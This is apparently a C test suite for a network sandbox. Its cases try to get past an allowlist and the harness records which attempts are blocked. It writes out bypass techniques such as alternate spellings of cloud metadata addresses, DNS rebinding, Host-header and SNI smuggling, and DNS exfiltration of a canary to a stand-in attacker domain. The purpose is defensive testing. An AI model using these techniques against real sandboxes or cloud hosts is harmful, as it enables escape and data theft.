// Reaching, by the network, what is not granted. The harness runs these in network namespaces of its own: one plays the
// host, another the internet, and listeners there write down what they receive. granted.example (its address is the
// argument `granted`) is granted on ports 80 and 443, and nothing else. Each payload holds the case's name.
#include "probe.h"
#include <arpa/inet.h>
#include <netdb.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <sys/socket.h>

#define CASE(name) static struct outcome name(void)
// Addresses of the internet that the harness makes for itself in a network namespace.
#define DENIED "93.184.216.66"
#define DENIED6 "2606:2800:220:1::66"
#define RESOLVER "93.184.216.53"
#define REPLY "UPSTREAM SAYS"

union address {
  struct sockaddr any;
  struct sockaddr_in v4;
  struct sockaddr_in6 v6;
};

static socklen_t size_of(const union address *address) {
  return address->any.sa_family == AF_INET ? sizeof address->v4 : sizeof address->v6;
}

static union address parse(const char *text, int port) {
  union address address = {0};
  if (inet_pton(AF_INET, text, &address.v4.sin_addr) == 1) {
    address.v4.sin_family = AF_INET, address.v4.sin_port = htons((uint16_t)port);
  } else if (inet_pton(AF_INET6, text, &address.v6.sin6_addr) == 1) {
    address.v6.sin6_family = AF_INET6, address.v6.sin6_port = htons((uint16_t)port);
  } else {
    fprintf(stderr, "probe: %s is no address\n", text);
    _exit(2);
  }
  return address;
}

static char *greeting(void) {
  char *text = NULL;
  if (asprintf(&text, "GET /%s HTTP/1.1\r\nHost: evil.example\r\n\r\n", case_name()) < 0) _exit(2);
  return text;
}

// Sends, then reads: only an answer of the upstream counts as having got through.
static struct outcome exchange(int fd, const char *payload, size_t length) {
  if (send(fd, payload, length, 0) < 0) return blocked(errno, "send refused");
  char text[512] = {0};
  size_t have = 0;
  struct pollfd ready = {fd, POLLIN, 0};
  while (have < sizeof text - 1 && poll(&ready, 1, 4000) == 1) {
    ssize_t got = recv(fd, text + have, sizeof text - 1 - have, 0);
    if (got <= 0) break;
    have += (size_t)got;
    if (strstr(text, REPLY)) return succeeded("%s", text);
  }
  return blocked(0, "no answer of the upstream, but: %s", text);
}

static struct outcome tcp_payload(union address to, const char *payload, size_t length) {
  int fd = socket(to.any.sa_family, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (fd < 0) return blocked(errno, "socket refused");
  if (connect(fd, &to.any, size_of(&to)) < 0) return blocked(errno, "connect refused");
  return exchange(fd, payload, length);
}
static struct outcome tcp(const char *address, int port) {
  char *text = greeting();
  return tcp_payload(parse(address, port), text, strlen(text));
}

CASE(tcp_denied) { return tcp(DENIED, 443); }
CASE(tcp_denied_80) { return tcp(DENIED, 80); }
CASE(tcp_no_proxy) {
  unsetenv("http_proxy"), unsetenv("https_proxy"), unsetenv("HTTP_PROXY"), unsetenv("HTTPS_PROXY"), unsetenv("ALL_PROXY");
  setenv("no_proxy", "*", 1);
  return tcp(DENIED, 443);
}
CASE(tcp_other_port) { return tcp(arg("granted"), 22); }
CASE(tcp_host_loopback) { return tcp("127.0.0.1", 8443); }
CASE(tcp_host_loopback_other) { return tcp("127.0.0.2", 8443); }
CASE(tcp_zero) { return tcp("0.0.0.0", 8443); }
CASE(tcp_v6_loopback) { return tcp("::1", 8443); }
CASE(tcp_v6_denied) { return tcp(DENIED6, 443); }
CASE(tcp_v4_mapped_denied) { return tcp("::ffff:" DENIED, 443); }
CASE(tcp_v4_mapped_loopback) { return tcp("::ffff:127.0.0.1", 8443); }
CASE(tcp_private) { return tcp("10.9.8.7", 443); }
CASE(tcp_nonblocking) {
  int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
  union address to = parse(DENIED, 443);
  if (connect(fd, &to.any, size_of(&to)) < 0 && errno != EINPROGRESS) return blocked(errno, "connect refused");
  struct pollfd ready = {fd, POLLOUT, 0};
  poll(&ready, 1, 3000);
  int err = 0;
  socklen_t length = sizeof err;
  getsockopt(fd, SOL_SOCKET, SO_ERROR, &err, &length);
  if (err) return blocked(err, "connect failed");
  char *text = greeting();
  return exchange(fd, text, strlen(text));
}
CASE(tcp_fast_open_sendto) {
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  union address to = parse(DENIED, 443);
  char *text = greeting();
  if (sendto(fd, text, strlen(text), MSG_FASTOPEN, &to.any, size_of(&to)) < 0) return blocked(errno, "sendto refused");
  return exchange(fd, "", 0);
}
CASE(tcp_fast_open_sendmsg) {
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  union address to = parse(DENIED, 443);
  char *text = greeting();
  struct iovec part = {text, strlen(text)};
  struct msghdr message = {.msg_name = &to, .msg_namelen = size_of(&to), .msg_iov = &part, .msg_iovlen = 1};
  if (sendmsg(fd, &message, MSG_FASTOPEN) < 0) return blocked(errno, "sendmsg refused");
  return exchange(fd, "", 0);
}
CASE(tcp_fast_open_connect) {
  int fd = socket(AF_INET, SOCK_STREAM, 0), on = 1;
  setsockopt(fd, IPPROTO_TCP, 30 /* TCP_FASTOPEN_CONNECT */, &on, sizeof on);
  union address to = parse(DENIED, 443);
  if (connect(fd, &to.any, size_of(&to)) < 0) return blocked(errno, "connect refused");
  char *text = greeting();
  return exchange(fd, text, strlen(text));
}
CASE(tcp_reconnect) {
  // Connect to what is granted, dissolve the association, connect again to what is not.
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  union address to = parse(arg("granted"), 443), none = {.any = {.sa_family = AF_UNSPEC}}, denied = parse(DENIED, 443);
  if (connect(fd, &to.any, size_of(&to)) < 0) return blocked(errno, "the granted connect was refused too");
  connect(fd, &none.any, sizeof none.any);
  if (connect(fd, &denied.any, size_of(&denied)) < 0) return blocked(errno, "connect refused");
  char *text = greeting();
  return exchange(fd, text, strlen(text));
}

// --- datagrams: the payload is the effect, nothing answers
static struct outcome udp(const char *address, int port, int how) {
  union address to = parse(address, port);
  int fd = socket(to.any.sa_family, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  if (fd < 0) return blocked(errno, "socket refused");
  struct iovec part = {(void *)case_name(), strlen(case_name())};
  struct mmsghdr messages[2] = {{.msg_hdr = {.msg_name = &to, .msg_namelen = size_of(&to), .msg_iov = &part, .msg_iovlen = 1}}};
  messages[1] = messages[0];
  if (how == 0) return from(sendto(fd, part.iov_base, part.iov_len, 0, &to.any, size_of(&to)));
  if (how == 1) return from(sendmsg(fd, &messages[0].msg_hdr, 0));
  if (how == 2) return from(sendmmsg(fd, messages, 2, 0));
  if (connect(fd, &to.any, size_of(&to)) < 0) return blocked(errno, "connect refused");
  return from(how == 3 ? send(fd, part.iov_base, part.iov_len, 0) : write(fd, part.iov_base, part.iov_len));
}
CASE(udp_sendto) { return udp(RESOLVER, 53, 0); }
CASE(udp_sendmsg) { return udp(RESOLVER, 53, 1); }
CASE(udp_sendmmsg) { return udp(RESOLVER, 53, 2); }
CASE(udp_connect_send) { return udp(RESOLVER, 53, 3); }
CASE(udp_connect_write) { return udp(RESOLVER, 53, 4); }
CASE(udp_v6) { return udp(DENIED6, 53, 0); }
CASE(udp_v4_mapped) { return udp("::ffff:" RESOLVER, 53, 0); }
CASE(udp_quic) { return udp(arg("granted"), 443, 0); }
CASE(udp_mmsg_mixed) {
  // The first message goes to our resolver (allowed), the second to somebody else.
  union address ours = parse("127.0.0.1", 53), theirs = parse(RESOLVER, 443);
  struct iovec part = {(void *)case_name(), strlen(case_name())};
  struct mmsghdr messages[2] = {{.msg_hdr = {.msg_name = &ours, .msg_namelen = size_of(&ours), .msg_iov = &part, .msg_iovlen = 1}},
                                {.msg_hdr = {.msg_name = &theirs, .msg_namelen = size_of(&theirs), .msg_iov = &part, .msg_iovlen = 1}}};
  int sent = sendmmsg(socket(AF_INET, SOCK_DGRAM, 0), messages, 2, 0);
  return sent == 2 ? succeeded("both were sent") : blocked(errno, "%d sent", sent);
}

// --- metadata services, in their spellings
CASE(metadata_v4) { return tcp("169.254.169.254", 80); }
CASE(metadata_v4_mapped) { return tcp("::ffff:169.254.169.254", 80); }
CASE(metadata_v4_compatible) { return tcp("::169.254.169.254", 80); }
CASE(metadata_nat64) { return tcp("64:ff9b::a9fe:a9fe", 80); }
CASE(metadata_6to4) { return tcp("2002:a9fe:a9fe::1", 80); }
CASE(metadata_ec2_v6) { return tcp("fd00:ec2::254", 80); }
CASE(metadata_alibaba) { return tcp("100.100.100.200", 80); }
CASE(metadata_azure) { return tcp("168.63.129.16", 80); }
CASE(metadata_oracle) { return tcp("192.0.0.192", 80); }
CASE(metadata_ecs) { return tcp("169.254.170.2", 80); }

static struct outcome by_name(const char *name, const char *service, const char *payload, size_t length) {
  struct addrinfo hints = {.ai_socktype = SOCK_STREAM}, *list = NULL;
  int failed = getaddrinfo(name, service, &hints, &list);
  if (failed) return blocked(0, "%s: %s", name, gai_strerror(failed));
  struct outcome outcome = blocked(0, "no address");
  for (struct addrinfo *at = list; at; at = at->ai_next) {
    int fd = socket(at->ai_family, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (fd < 0) continue;
    if (connect(fd, at->ai_addr, at->ai_addrlen) < 0) outcome = blocked(errno, "connect refused");
    else outcome = exchange(fd, payload, length);
    close(fd);
    if (outcome.result == SUCCEEDED) return outcome;
  }
  return outcome;
}
static struct outcome http_by_name(const char *name) {
  char *text = NULL;
  if (asprintf(&text, "GET /%s HTTP/1.1\r\nHost: %s\r\n\r\n", case_name(), name) < 0) _exit(2);
  return by_name(name, "80", text, strlen(text));
}
CASE(metadata_hex) { return http_by_name("0xa9fea9fe"); }
CASE(metadata_decimal) { return http_by_name("2852039166"); }
CASE(metadata_octal) { return http_by_name("0251.0376.0251.0376"); }
CASE(metadata_short) { return http_by_name("169.16689662"); }
CASE(metadata_name) { return http_by_name("metadata.google.internal"); }
CASE(metadata_wildcard_name) { return http_by_name("169.254.169.254.rebind.example"); }
CASE(localhost_name) { return http_by_name("localhost"); }
// Granted names whose answers point where no grant leads.
CASE(rebind_loopback) { return http_by_name("loopback.rebind.example"); }
CASE(rebind_metadata) { return http_by_name("metadata.rebind.example"); }
CASE(rebind_mapped) { return http_by_name("mapped.rebind.example"); }
CASE(rebind_mixed) { return http_by_name("mixed.rebind.example"); }
CASE(rebind_later) {
  // The second answer differs from the first; the address of the second was never pinned for an acceptable name.
  http_by_name("later.rebind.example");
  return http_by_name("later.rebind.example");
}

// --- one authority: what is said must be what was granted
static struct outcome http_to_granted(const char *text) { return tcp_payload(parse(arg("granted"), 80), text, strlen(text)); }
static void look_up_granted(void) {
  struct addrinfo hints = {.ai_socktype = SOCK_STREAM}, *list = NULL;
  if (getaddrinfo("granted.example", "80", &hints, &list) == 0) freeaddrinfo(list);
}
static struct outcome said(const char *format) {
  look_up_granted();
  char *text = NULL;
#pragma GCC diagnostic push
#pragma GCC diagnostic ignored "-Wformat-nonliteral"
  if (asprintf(&text, format, case_name()) < 0) _exit(2);
#pragma GCC diagnostic pop
  return http_to_granted(text);
}
// The one that must work, or every refusal below would prove nothing.
CASE(http_granted) { return said("GET /%s HTTP/1.1\r\nHost: granted.example\r\n\r\n"); }
CASE(http_host_mismatch) { return said("GET /%s HTTP/1.1\r\nHost: evil.example\r\n\r\n"); }
CASE(http_no_host) { return said("GET /%s HTTP/1.0\r\n\r\n"); }
CASE(http_two_hosts) { return said("GET /%s HTTP/1.1\r\nHost: granted.example\r\nHost: evil.example\r\n\r\n"); }
CASE(http_absolute_mismatch) { return said("GET http://evil.example/%s HTTP/1.1\r\nHost: granted.example\r\n\r\n"); }
CASE(http_userinfo) { return said("GET /%s HTTP/1.1\r\nHost: granted.example@evil.example\r\n\r\n"); }
CASE(http_connect) { return said("CONNECT 169.254.169.254:80 HTTP/1.1\r\nHost: granted.example\r\nX: %s\r\n\r\n"); }
CASE(http_connect_name) { return said("CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\nX: %s\r\n\r\n"); }
CASE(http_folded_host) { return said("GET /%s HTTP/1.1\r\nHost:\r\n evil.example\r\n\r\n"); }
CASE(http_garbage) { return said("\x16\x03\x01 %s is not HTTP\r\n\r\n"); }
CASE(http_address_host) { return said("GET /%s HTTP/1.1\r\nHost: 93.184.216.66\r\n\r\n"); }
CASE(http_keep_alive) {
  look_up_granted();
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  union address to = parse(arg("granted"), 80);
  if (connect(fd, &to.any, size_of(&to)) < 0) return blocked(errno, "the granted connect was refused too");
  const char *first = "GET /first HTTP/1.1\r\nHost: granted.example\r\n\r\n";
  struct outcome outcome = exchange(fd, first, strlen(first));
  if (outcome.result != SUCCEEDED) return blocked(0, "already the first: %.200s", outcome.detail);
  char *text = greeting();
  return exchange(fd, text, strlen(text));
}

// A TLS 1.2 ClientHello with the server name given (none when NULL); random holds the case's name.
static size_t client_hello(unsigned char *out, const char *name) {
  size_t length = name ? strlen(name) : 0, extensions = name ? length + 9 : 0, body = 2 + 32 + 1 + 4 + 2 + 2 + extensions, at = 0;
#define PUT8(v) out[at++] = (unsigned char)(v)
#define PUT16(v) (PUT8((v) >> 8), PUT8((v) & 255))
  PUT8(0x16), PUT16(0x0301), PUT16(body + 4);
  PUT8(1), PUT8(0), PUT16(body);
  PUT16(0x0303);
  memset(out + at, 0, 32), strncpy((char *)out + at, case_name(), 32), at += 32;
  PUT8(0), PUT16(2), PUT16(0x1301), PUT8(1), PUT8(0), PUT16(extensions);
  if (name) {
    PUT16(0), PUT16(length + 5), PUT16(length + 3), PUT8(0), PUT16(length);
    memcpy(out + at, name, length), at += length;
  }
  return at;
}
static struct outcome tls(const char *name) {
  look_up_granted();
  unsigned char hello[512];
  size_t length = client_hello(hello, name);
  return tcp_payload(parse(arg("granted"), 443), (char *)hello, length);
}
CASE(tls_granted) { return tls("granted.example"); }
CASE(tls_sni_mismatch) { return tls("evil.example"); }
CASE(tls_no_sni) { return tls(NULL); }
CASE(tls_sni_address) { return tls("93.184.216.66"); }
CASE(tls_sni_nul) {
  look_up_granted();
  unsigned char hello[512];
  size_t length = client_hello(hello, "evil.exampleXgranted.example");
  unsigned char *x = memchr(hello + 40, 'X', length - 40);
  *x = 0;
  return tcp_payload(parse(arg("granted"), 443), (char *)hello, length);
}
CASE(tls_sni_split) {
  // One byte a segment: the check must wait for the whole name.
  look_up_granted();
  unsigned char hello[512];
  size_t length = client_hello(hello, "evil.example");
  int fd = socket(AF_INET, SOCK_STREAM, 0), on = 1;
  union address to = parse(arg("granted"), 443);
  if (connect(fd, &to.any, size_of(&to)) < 0) return blocked(errno, "the granted connect was refused too");
  setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &on, sizeof on);
  for (size_t i = 0; i + 1 < length; i++) {
    if (send(fd, hello + i, 1, 0) < 0) return blocked(errno, "send refused");
    usleep(500);
  }
  return exchange(fd, (char *)hello + length - 1, 1);
}
CASE(tls_plain_on_443) {
  look_up_granted();
  char *text = greeting();
  return tcp_payload(parse(arg("granted"), 443), text, strlen(text));
}

// --- names: the secret is in the name; the upstream resolver must never be asked
static size_t dns_query(unsigned char *out, const char *name, int type) {
  size_t at = 12;
  memset(out, 0, 12), out[1] = 7, out[2] = 1, out[5] = 1;
  for (const char *label = name; *label;) {
    size_t length = strcspn(label, ".");
    out[at++] = (unsigned char)length;
    memcpy(out + at, label, length), at += length;
    label += length + (label[length] == '.');
  }
  out[at++] = 0, out[at++] = 0, out[at++] = (unsigned char)type, out[at++] = 0, out[at++] = 1;
  return at;
}
static char *exfiltration(void) {
  char *name = NULL;
  if (asprintf(&name, "%s.%s.evil.example", CANARY, case_name()) < 0) _exit(2);
  return name;
}
static struct outcome answer_to(const char *resolver, const char *name, int type, int stream) {
  unsigned char message[600] = {0}, answer[600];
  size_t length = dns_query(message + 2, name, type);
  message[0] = (unsigned char)(length >> 8), message[1] = (unsigned char)length;
  union address to = parse(resolver, 53);
  int fd = socket(to.any.sa_family, stream ? SOCK_STREAM : SOCK_DGRAM, 0);
  if (fd < 0) return blocked(errno, "socket refused");
  if (connect(fd, &to.any, size_of(&to)) < 0) return blocked(errno, "connect refused");
  if (send(fd, message + (stream ? 0 : 2), length + (stream ? 2 : 0), 0) < 0) return blocked(errno, "send refused");
  struct pollfd ready = {fd, POLLIN, 0};
  if (poll(&ready, 1, 4000) != 1) return blocked(0, "no answer");
  ssize_t got = recv(fd, answer, sizeof answer, 0);
  int skip = stream ? 2 : 0;
  if (got < 12 + skip) return blocked(errno, "short answer");
  int code = answer[3 + skip] & 15, answers = answer[7 + skip];
  return code == 0 && answers > 0 ? succeeded("%d answers", answers) : blocked(0, "rcode %d, %d answers", code, answers);
}
CASE(dns_getaddrinfo) {
  struct addrinfo *list = NULL;
  int failed = getaddrinfo(exfiltration(), NULL, NULL, &list);
  return failed ? blocked(0, "%s", gai_strerror(failed)) : succeeded("resolved");
}
CASE(dns_udp) { return answer_to("127.0.0.1", exfiltration(), 1, 0); }
CASE(dns_tcp) { return answer_to("127.0.0.1", exfiltration(), 1, 1); }
CASE(dns_txt) { return answer_to("127.0.0.1", exfiltration(), 16, 0); }
CASE(dns_any) { return answer_to("127.0.0.1", exfiltration(), 255, 0); }
CASE(dns_null) { return answer_to("127.0.0.1", exfiltration(), 10, 0); }
CASE(dns_other_resolver) { return answer_to(RESOLVER, exfiltration(), 1, 0); }
CASE(dns_other_resolver_tcp) { return answer_to(RESOLVER, exfiltration(), 1, 1); }
CASE(dns_ptr) { return answer_to("127.0.0.1", "66.216.184.93.in-addr.arpa", 12, 0); }
CASE(dns_below_granted) {
  char *name = NULL;
  if (asprintf(&name, "%s.%s.granted.example", CANARY, case_name()) < 0) _exit(2);
  return answer_to("127.0.0.1", name, 1, 0);
}
CASE(dns_txt_of_granted) { return answer_to("127.0.0.1", "granted.example", 16, 0); }
CASE(bind_resolver) {
  // Taking the resolver's place for others in the sandbox.
  union address at = parse("127.0.0.1", 53);
  return from(bind(socket(AF_INET, SOCK_DGRAM, 0), &at.any, size_of(&at)));
}

#define ROW(name, function) {name, function, 0}
const struct probe_case network_cases[] = {
    ROW("tcp-denied", tcp_denied),
    ROW("tcp-denied-port-80", tcp_denied_80),
    ROW("tcp-without-proxy-variables", tcp_no_proxy),
    ROW("tcp-granted-host-other-port", tcp_other_port),
    ROW("tcp-host-loopback", tcp_host_loopback),
    ROW("tcp-host-loopback-127.0.0.2", tcp_host_loopback_other),
    ROW("tcp-address-zero", tcp_zero),
    ROW("tcp-ipv6-loopback", tcp_v6_loopback),
    ROW("tcp-ipv6-denied", tcp_v6_denied),
    ROW("tcp-v4-mapped-denied", tcp_v4_mapped_denied),
    ROW("tcp-v4-mapped-loopback", tcp_v4_mapped_loopback),
    ROW("tcp-private-address", tcp_private),
    ROW("tcp-nonblocking", tcp_nonblocking),
    ROW("tcp-fast-open-sendto", tcp_fast_open_sendto),
    ROW("tcp-fast-open-sendmsg", tcp_fast_open_sendmsg),
    ROW("tcp-fast-open-connect", tcp_fast_open_connect),
    ROW("tcp-reconnect", tcp_reconnect),
    ROW("udp-sendto", udp_sendto),
    ROW("udp-sendmsg", udp_sendmsg),
    ROW("udp-sendmmsg", udp_sendmmsg),
    ROW("udp-connect-send", udp_connect_send),
    ROW("udp-connect-write", udp_connect_write),
    ROW("udp-ipv6", udp_v6),
    ROW("udp-v4-mapped", udp_v4_mapped),
    ROW("udp-quic-to-granted", udp_quic),
    ROW("udp-sendmmsg-mixed", udp_mmsg_mixed),
    ROW("metadata-ipv4", metadata_v4),
    ROW("metadata-v4-mapped", metadata_v4_mapped),
    ROW("metadata-v4-compatible", metadata_v4_compatible),
    ROW("metadata-nat64", metadata_nat64),
    ROW("metadata-6to4", metadata_6to4),
    ROW("metadata-ec2-ipv6", metadata_ec2_v6),
    ROW("metadata-alibaba", metadata_alibaba),
    ROW("metadata-azure", metadata_azure),
    ROW("metadata-oracle", metadata_oracle),
    ROW("metadata-ecs", metadata_ecs),
    ROW("metadata-hexadecimal", metadata_hex),
    ROW("metadata-decimal", metadata_decimal),
    ROW("metadata-octal", metadata_octal),
    ROW("metadata-two-parts", metadata_short),
    ROW("metadata-name", metadata_name),
    ROW("metadata-in-a-name", metadata_wildcard_name),
    ROW("localhost-name", localhost_name),
    ROW("rebind-to-loopback", rebind_loopback),
    ROW("rebind-to-metadata", rebind_metadata),
    ROW("rebind-to-mapped", rebind_mapped),
    ROW("rebind-among-good", rebind_mixed),
    ROW("rebind-later", rebind_later),
    ROW("http-granted", http_granted),
    ROW("http-host-mismatch", http_host_mismatch),
    ROW("http-no-host", http_no_host),
    ROW("http-two-hosts", http_two_hosts),
    ROW("http-absolute-uri-mismatch", http_absolute_mismatch),
    ROW("http-userinfo", http_userinfo),
    ROW("http-connect-address", http_connect),
    ROW("http-connect-name", http_connect_name),
    ROW("http-folded-host", http_folded_host),
    ROW("http-garbage", http_garbage),
    ROW("http-address-as-host", http_address_host),
    ROW("http-keep-alive-second-host", http_keep_alive),
    ROW("tls-granted", tls_granted),
    ROW("tls-sni-mismatch", tls_sni_mismatch),
    ROW("tls-no-sni", tls_no_sni),
    ROW("tls-sni-address", tls_sni_address),
    ROW("tls-sni-nul", tls_sni_nul),
    ROW("tls-sni-byte-by-byte", tls_sni_split),
    ROW("tls-plain-http-on-443", tls_plain_on_443),
    ROW("dns-exfiltration-getaddrinfo", dns_getaddrinfo),
    ROW("dns-exfiltration-udp", dns_udp),
    ROW("dns-exfiltration-tcp", dns_tcp),
    ROW("dns-exfiltration-txt", dns_txt),
    ROW("dns-exfiltration-any", dns_any),
    ROW("dns-exfiltration-null", dns_null),
    ROW("dns-exfiltration-other-resolver", dns_other_resolver),
    ROW("dns-exfiltration-other-resolver-tcp", dns_other_resolver_tcp),
    ROW("dns-exfiltration-ptr", dns_ptr),
    ROW("dns-exfiltration-below-granted", dns_below_granted),
    ROW("dns-txt-of-granted", dns_txt_of_granted),
    ROW("bind-resolver-port", bind_resolver),
    ROW(NULL, NULL),
};
